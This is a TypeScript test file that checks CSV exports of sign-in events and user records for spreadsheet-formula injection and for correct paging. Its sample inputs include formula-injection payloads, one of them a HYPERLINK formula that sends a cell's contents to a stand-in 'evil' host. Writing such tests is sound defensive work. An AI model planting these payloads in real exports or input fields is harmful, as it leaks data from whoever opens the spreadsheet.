import type { Trail, UserEntry, UsersPage } from "@vestibule/client/console";
import { expect, test } from "vitest";
import { eventsAsCsv } from "../src/console/event-export.js";
import { usersAsCsv } from "../src/console/user-export.js";

const event = {
  id: "1",
  at: "2026-11-29T10:00:00Z",
  event: "sign_in_failed",
  account: "7",
  actor: "",
  session: null,
  ip: "192.0.2.7",
  user_agent: "",
  request_id: "",
  details: {},
};
const user = { id: 7, email: "ann@example.org", first_name: "", last_name: "", role: "client" };

/** The file of events with these user agents, two on a page. */
async function exported(agents: string[], told = (_: number) => true): Promise<string[]> {
  const text = await eventsAsCsv(async (query): Promise<Trail> => {
    const from = Number(query.before ?? 0);
    const events = agents.slice(from, from + 2).map((user_agent) => ({ ...event, user_agent }));
    const next = from + 2 < agents.length ? String(from + 2) : null;
    return { events, people: [user], next };
  }, told);
  return text.trimEnd().split("\r\n").slice(1);
}

test("no value of an event is a formula, wherever a spreadsheet begins a cell", async () => {
  const agents = [
    "=1+1",
    "＝1+1",
    'x;=HYPERLINK("http://evil/?"&D2);y',
    'x"\t+1',
    "a,-1\n@b",
    "Mozilla/5.0 (X11; Linux x86_64) = fine",
  ];
  const lines = await exported(agents);
  const cells = lines.join("\n").split(/[;,\t\r\n]["\s]*/);
  expect(cells.filter((each) => /^["]?[=+\-@＝＋－＠]/.test(each))).toEqual([]);
  expect(lines.join()).toContain("= fine");
});

test("pages are read until the last one, or until it is told to stop", async () => {
  expect(await exported(["a", "b", "c", "d", "e"])).toHaveLength(5);
  const counts: number[] = [];
  expect(await exported(["a", "b", "c", "d", "e"], (rows) => counts.push(rows) < 2)).toHaveLength(
    4,
  );
  expect(counts).toEqual([2, 4]);
});

test("users are read by page and then by cursor, each of them once", async () => {
  const known = (id: number) => ({
    ...user,
    id,
    first_name: `=${id}`,
    factors: ["passkey", "totp"],
  });
  const pages: Record<string, [number[], string | null]> = {
    "": [[1, 2], "page=2"],
    "2": [[2, 3], "cursor=abc"], // somebody new came to the first page meanwhile
    abc: [[4], null],
  };
  const asked: string[] = [];
  const text = await usersAsCsv(
    async ({ page = "", cursor = "" }): Promise<UsersPage> => {
      asked.push(page || cursor);
      const [ids, more] = pages[page || cursor] ?? [[], null];
      const next = more && `https://example.org/api/auth/users/?search=a&${more}`;
      const results = ids.map((id) => known(id) as unknown as UserEntry);
      return { count: 4, next, previous: null, results };
    },
    () => true,
  );
  expect(asked).toEqual(["", "2", "abc"]);
  const [head, ...lines] = text.trimEnd().split("\r\n");
  expect(head).toMatch(/^id,email,/);
  expect(lines.map((each) => each.split(",")[4])).toEqual(["'=1", "'=2", "'=3", "'=4"]);
  expect(lines[0]).toContain(",passkey totp,");
});
